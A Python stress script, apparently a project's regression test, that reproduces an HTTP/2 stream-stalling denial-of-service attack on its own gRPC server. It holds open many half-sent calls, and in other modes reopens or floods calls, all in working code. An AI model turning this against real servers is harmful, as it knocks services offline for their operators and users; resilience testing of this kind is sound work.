#!/usr/bin/env python3
# The stall attack of issue 33: a READ_ONLY API key of another project opens CONNS HTTP/2
# connections and keeps STREAMS calls open on each, every one announcing a 1 MB message
# and sending 5 bytes of it; a call the server ends (request timeout, refusal) or a
# connection it closes is replaced at once (a call refused for the streams-per-connection
# bound a second later), for SECONDS. It answers the server's pings
# and settings, as a real client would. Standard library only (HTTP/2 framed by hand,
# headers as HPACK literals).
# MODE `reopen`: a call refused for the streams-per-connection bound is reopened at once
# too (a tight loop of new streams, the variant of issue 33 that made fleet calls fail).
# MODE `hammer`: like `reopen`, but every call is complete (an empty request message), so
# that each one is answered and replaced at once: a key calling as fast as it can.
#   python3 benches/hostile/stall.py HOST:PORT "API-KEY <id>.<secret>" [CONNS] [STREAMS] [SECONDS] [stall|reopen]
# Prints, at the end (or on SIGTERM), the calls opened and how the server ended them.
import collections, signal, socket, struct, sys, threading, time

addr, auth = sys.argv[1], sys.argv[2]
CONNS = int(sys.argv[3]) if len(sys.argv) > 3 else 11
STREAMS = int(sys.argv[4]) if len(sys.argv) > 4 else 100
SECONDS = float(sys.argv[5]) if len(sys.argv) > 5 else 180
MODE = sys.argv[6] if len(sys.argv) > 6 else "stall"
if MODE not in ("stall", "reopen", "hammer"):
    sys.exit(f"MODE must be stall, reopen or hammer, not {MODE}")
host, port = addr.rsplit(":", 1)
PATH = "/grpc.service.apiservice.APIService/ListApplications"
stop_at = time.time() + SECONDS
counts = collections.Counter()
lock = threading.Lock()


def count(what, n=1):
    with lock:
        counts[what] += n


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    # Literal header field without indexing, new name, no Huffman.
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


HEADERS = b"".join(literal(n, v) for n, v in [
    (":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", addr),
    ("content-type", "application/grpc"), ("te", "trailers"), ("authorization", auth),
])
# A gRPC message prefix announcing 1,000,000 bytes, then nothing more.
STALLED_BODY = b"\x00" + struct.pack(">I", 1_000_000)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def read_exact(sock, n):
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def connection():
    while time.time() < stop_at:
        try:
            sock = socket.create_connection((host, int(port)), timeout=5)
            sock.settimeout(1)
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            count("connections")
            next_id = 1
            # The calls this connection holds open: each one ended is replaced once.
            live = set()

            def open_stream():
                nonlocal next_id
                sid = next_id
                next_id += 2
                live.add(sid)
                # HEADERS (END_HEADERS), then DATA without END_STREAM.
                if MODE == "hammer":  # an empty message, END_STREAM
                    body = frame(0, 0x1, sid, b"\x00\x00\x00\x00\x00")
                else:
                    body = frame(0, 0, sid, STALLED_BODY)
                sock.sendall(frame(1, 0x4, sid, HEADERS) + body)
                count("calls opened")

            for _ in range(STREAMS):
                open_stream()
            # Refused calls are tried again a second later, not in a tight loop.
            retry = []
            while time.time() < stop_at:
                while retry and retry[0] <= time.time():
                    retry.pop(0)
                    open_stream()
                try:
                    head = read_exact(sock, 9)
                except socket.timeout:
                    continue
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                sid = struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF
                payload = read_exact(sock, length) if length else b""
                if kind == 4 and not flags & 1:  # SETTINGS: acknowledge
                    sock.sendall(frame(4, 1, 0))
                elif kind == 6 and not flags & 1:  # PING: answer
                    sock.sendall(frame(6, 1, 0, payload))
                elif kind == 0 and length:  # DATA: give the connection's window back
                    sock.sendall(frame(8, 0, 0, struct.pack(">I", length)))
                    if flags & 1 and sid in live:  # END_STREAM (no trailers)
                        live.discard(sid)
                        count("calls answered by the server")
                        open_stream()
                elif kind == 7:  # GOAWAY
                    count("connections closed by the server (GOAWAY)")
                    break
                elif kind == 3 and sid in live:  # RST_STREAM of a call still held
                    live.discard(sid)
                    code = int.from_bytes(payload[:4], "big")
                    if code == 7:  # REFUSED_STREAM: past the streams per connection
                        count("calls refused (streams per connection)")
                        if MODE != "stall":
                            open_stream()
                        else:
                            retry.append(time.time() + 1)
                    else:
                        count("calls reset by the server")
                        open_stream()
                elif kind == 1 and flags & 1 and sid in live:  # END_STREAM: answered
                    live.discard(sid)
                    count("calls answered by the server")
                    open_stream()
            sock.close()
        except (ConnectionError, OSError):
            count("connections lost")
            time.sleep(0.1)


threads = [threading.Thread(target=connection, daemon=True) for _ in range(CONNS)]
[t.start() for t in threads]
stopped = threading.Event()
# stall.sh stops it with SIGTERM when the fleet's run ends.
signal.signal(signal.SIGTERM, lambda *_: stopped.set())
while not stopped.is_set() and any(t.is_alive() for t in threads):
    stopped.wait(0.5)
stop_at = 0
[t.join(timeout=3) for t in threads]
print(dict(counts), flush=True)
